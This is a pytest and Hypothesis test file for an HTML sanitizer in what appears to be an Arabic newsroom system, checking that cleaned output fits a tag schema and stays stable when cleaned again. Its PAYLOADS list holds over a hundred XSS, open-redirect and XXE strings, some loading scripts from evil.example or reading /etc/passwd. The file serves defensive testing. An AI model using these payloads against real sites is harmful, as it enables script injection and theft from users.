"""Hostile text: whatever is sent, what comes out is the schema, harmless by itself, and the same when sent again."""

from html.parser import HTMLParser

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from newsroom.arabic.hygiene import is_xml_safe
from newsroom.prose import clean, for_editor, for_feed, plain_text, render

SCHEMA = {
    "p": set(),
    "h2": set(),
    "h3": set(),
    "blockquote": {"class"},
    "ul": set(),
    "ol": set(),
    "li": set(),
    "a": {"href"},
    "strong": set(),
    "em": set(),
    "br": set(),
    "sup": {"class"},
    "figure": {"data-photo"},
    "figcaption": set(),
}
CLASSES = {"blockquote": "pull", "sup": "footnote"}
# Where each element may stand; "" is the text itself.
INLINE_PARENTS = {"p", "h2", "h3", "a", "strong", "em", "figcaption"}
PARENTS = {
    "p": {"", "li", "blockquote"},
    "h2": {""},
    "h3": {""},
    "blockquote": {""},
    "ul": {"", "li", "blockquote"},
    "ol": {"", "li", "blockquote"},
    "li": {"ul", "ol"},
    "figure": {""},
    "figcaption": {"figure"},
    **dict.fromkeys(("a", "strong", "em", "br", "sup"), INLINE_PARENTS),
}


def harmless(href: str) -> bool:
    """Whether a browser that follows ``href`` stays here, or goes where the letters say."""
    leads_out = href.startswith(("//", "/\\")) or any(char <= " " for char in href)
    return href.startswith(("https://", "mailto:", "/")) and not leads_out


class _Judge(HTMLParser):
    """Reads the output as a browser would and notes everything that the schema does not know."""

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[str] = []
        self.open = [""]

    def handle_starttag(self, tag: str, attrs: list) -> None:
        if tag not in SCHEMA:
            self.wrong.append(f"<{tag}>")
        elif self.open[-1] not in PARENTS[tag]:
            self.wrong.append(f"<{tag}> in <{self.open[-1]}>")
        if tag in {"a", "strong", "em", "sup"} and tag in self.open:
            self.wrong.append(f"<{tag}> in itself")
        for name, value in attrs:
            if name not in SCHEMA.get(tag, ()):
                self.wrong.append(f"{tag}[{name}]")
            elif name == "href" and not harmless(value or ""):
                self.wrong.append(f"href={value}")
            elif name == "class" and value != CLASSES[tag]:
                self.wrong.append(f"class={value}")
        if tag != "br":
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if self.open.pop() != tag:
            self.wrong.append(f"</{tag}>")

    def handle_comment(self, data: str) -> None:
        self.wrong.append("comment")

    def handle_decl(self, decl: str) -> None:
        self.wrong.append("declaration")

    def handle_pi(self, data: str) -> None:
        self.wrong.append("instruction")


def wrong_with(html: str) -> list[str]:
    judge = _Judge()
    judge.feed(html)
    judge.close()
    return judge.wrong + judge.open[1:]


PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script/x>alert(1)</script/x>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href='javascript:alert(1)'>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)' data-photo=1>",
    "<img src=`x` onerror=alert(1)//",
    "<img/src='x'/onerror=alert(1)>",
    "<img srcset='x' onerror=alert(1)>",
    "<image src=x onerror=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<body background='javascript:alert(1)'>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>x</select>",
    "<textarea autofocus onfocus=alert(1)>x</textarea>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<p onclick=alert(1)>x</p>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p\nonmouseover\n=\nalert(1)>x</p>",
    "<p id=location name=cookie class=evil>x</p>",
    "<div onpointerenter=alert(1) style='position:fixed;inset:0'>x</div>",
    "<blockquote class=pull onclick=alert(1) cite=javascript:alert(1)>x</blockquote>",
    "<sup class='footnote' onclick=alert(1)><img src=x onerror=alert(1)>x</sup>",
    "<sup class=footnote>&lt;script&gt;alert(1)&lt;/script&gt;</sup>",
    "<figure data-photo='1\" onload=\"alert(1)'><figcaption onclick=alert(1)>x</figcaption></figure>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&Tab;script:alert(1)'>x</a>",
    "<a href='&#x6A;avascript:alert(1)'>x</a>",
    "<a href='&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='livescript:x'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='data:image/svg+xml,<svg onload=alert(1)>'>x</a>",
    "<a href='blob:https://x/1'>x</a>",
    "<a href='view-source:javascript:alert(1)'>x</a>",
    "<a href='feed:javascript:alert(1)'>x</a>",
    "<a href='https:javascript:alert(1)'>x</a>",
    "<a href='https://\njavascript:alert(1)'>x</a>",
    "<a href='https:////evil.example'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/\\evil.example'>x</a>",
    "<a href='\\\\evil.example'>x</a>",
    "<a href='/\t/evil.example'>x</a>",
    "<a href='/&NewLine;/evil.example'>x</a>",
    "<a href='///evil.example'>x</a>",
    "<a href='mailto:a@b?subject=x\" onclick=\"alert(1)'>x</a>",
    "<a href='https://x.example/\" onclick=\"alert(1)'>x</a>",
    "<a href=https://x.example/'onclick='alert(1)>x</a>",
    "<a href='https://x.example/<script>alert(1)</script>'>x</a>",
    "<a href='/x' ping='https://evil.example' target=_top download>x</a>",
    "<base href='https://evil.example/'>x",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<applet code=x></applet>",
    "<form action='javascript:alert(1)'><button>x</button></form>",
    "<isindex action='javascript:alert(1)'>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<table background='javascript:alert(1)'><tr><td onclick=alert(1)>x</td></tr></table>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<noframes><img title='</noframes><img src=x onerror=alert(1)>'></noframes>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><p>&e;</p>",
    "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    "<p>&amp;lt;script&amp;gt;alert(1)</p>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "<x-evil onclick=alert(1)>x</x-evil>",
    "<p is='x-evil'>x</p>",
    "<<p>script>alert(1)<</p>/script>",
    "<p title='><img src=x onerror=alert(1)>'>x</p>",
    "<table><p><script>alert(1)</script></table>",
    "<a href='/x'><table><a href='javascript:alert(1)'>x</a></table></a>",
    "\ufeff<script>alert(1)</script>",
    "<p>\u2028<script>alert(1)</script>",
    "<span style='font-weight:700' onclick=alert(1)>x</span>",
    "<b style='font-weight:normal;background:url(//evil.example)'>x</b>",
]


@pytest.mark.django_db
def test_no_payload_of_the_list_acts_after_cleaning():
    assert len(PAYLOADS) >= 60
    for payload in PAYLOADS:
        for dirty in (payload, f"<p>قبل</p>{payload}<p>بعد</p>", f"<ul><li>{payload}</li></ul>", f"<b><i>{payload}"):
            once = clean(dirty).html
            assert (dirty, wrong_with(once)) == (dirty, [])
            assert (dirty, clean(once).html) == (dirty, once)


@pytest.mark.slow
@pytest.mark.django_db
def test_no_payload_acts_on_the_page_in_the_feed_or_in_the_editor():
    for payload in PAYLOADS:
        stored = clean(payload).html
        for shown in (render(stored).html, for_feed(stored), for_editor(stored)):
            lowered = shown.lower()
            assert (
                payload,
                [word for word in ("<script", "<img", "<svg", "<iframe", "<style") if word in lowered],
            ) == (
                payload,
                [],
            )
        assert "<script" not in render(stored).html + "".join(render(stored).notes).replace(
            "<script>alert(1)</script>", ""
        )


# ---- at random -------------------------------------------------------------------------------------------------------

TAGS = [*SCHEMA, "div", "span", "b", "i", "u", "h1", "h4", "table", "tr", "td", "pre", "img", "hr", "section", "font"]
TAGS += ["script", "style", "svg", "math", "dl", "dt", "tbody", "center", "template", "o:p"]
ATTRIBUTES = [
    "",
    " class='pull evil'",
    " class=footnote",
    " style='font-weight:700'",
    " style='font-weight:normal'",
    " style='font-style:italic'",
    " href='https://example.org/?a=1&b=2'",
    " href='javascript:x'",
    " href='/a b'",
    " href='#_ftn1'",
    " href='#_ftnref1'",
    " href='https://x.example/&#x202E;&#xFFFE;'",
    " data-photo=1",
    " onclick=x",
]
words = st.sampled_from(
    ["نص", " ", "\n", "\u00a0", "أ ب", "&amp;", "&lt;", "&#x202E;", "<", ">", "&", '"', "'", "\u200c", "1."]
)
tags = st.builds(
    lambda tag, attrs, shape: shape.format(tag=tag, attrs=attrs),
    st.sampled_from(TAGS),
    st.sampled_from(ATTRIBUTES),
    st.sampled_from(["<{tag}{attrs}>", "</{tag}>", "<{tag}{attrs}/>", "<{tag}{attrs}>نص</{tag}>"]),
)
fragments = st.lists(st.one_of(words, tags, st.text(max_size=6)), max_size=24).map("".join)


def holds(source: str) -> None:
    once = clean(source).html
    assert wrong_with(once) == []
    assert clean(once).html == once
    assert clean(for_editor(once)).html == once
    assert is_xml_safe(once)


@pytest.mark.slow
@pytest.mark.django_db
@settings(max_examples=1500, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(fragments)
def test_random_fragments_become_the_schema_and_stay_as_they_are(source):
    holds(source)


@pytest.mark.django_db
@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(fragments)
def test_sixty_random_fragments_become_the_schema(source):
    holds(source)


@pytest.mark.django_db
@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.text(alphabet=st.characters(), max_size=60))
def test_random_letters_are_kept_as_text(source):
    once = clean(source).html
    assert wrong_with(once) == []
    assert clean(once).html == once


# ---- too much --------------------------------------------------------------------------------------------------------

DEEP = [
    "div",
    "span",
    "b",
    "i",
    "blockquote",
    "ul><li",
    "table><tr><td",
    "a href='/x'",
    "section",
    "figure",
    "p><b",
    "sup",
]


@pytest.mark.slow
@pytest.mark.django_db
@pytest.mark.parametrize("tag", DEEP)
def test_nesting_without_end_is_flattened(tag):
    cleaned = clean(f"<{tag}>" * 3_000 + "نص" + "<p>بعد</p>")
    once = cleaned.html
    assert plain_text(once).replace(" ", "") == "نصبعد"
    assert wrong_with(once) == []
    assert clean(once).html == once
    assert plain_text(render(once).html) or tag == "sup"


@pytest.mark.slow
@pytest.mark.django_db
@pytest.mark.parametrize(
    "piece",
    ["<p>أ</p>", "<br>", "<b>أ</b>", "<a href='/x'>أ</a>", "<", "&", "<li>", "<td>أ", "<sup class=footnote>أ</sup>"],
)
def test_a_text_as_long_as_any_is_cleaned(piece):
    once = clean(piece * (60_000 // len(piece))).html
    assert wrong_with(once) == []
    assert clean(once).html == once
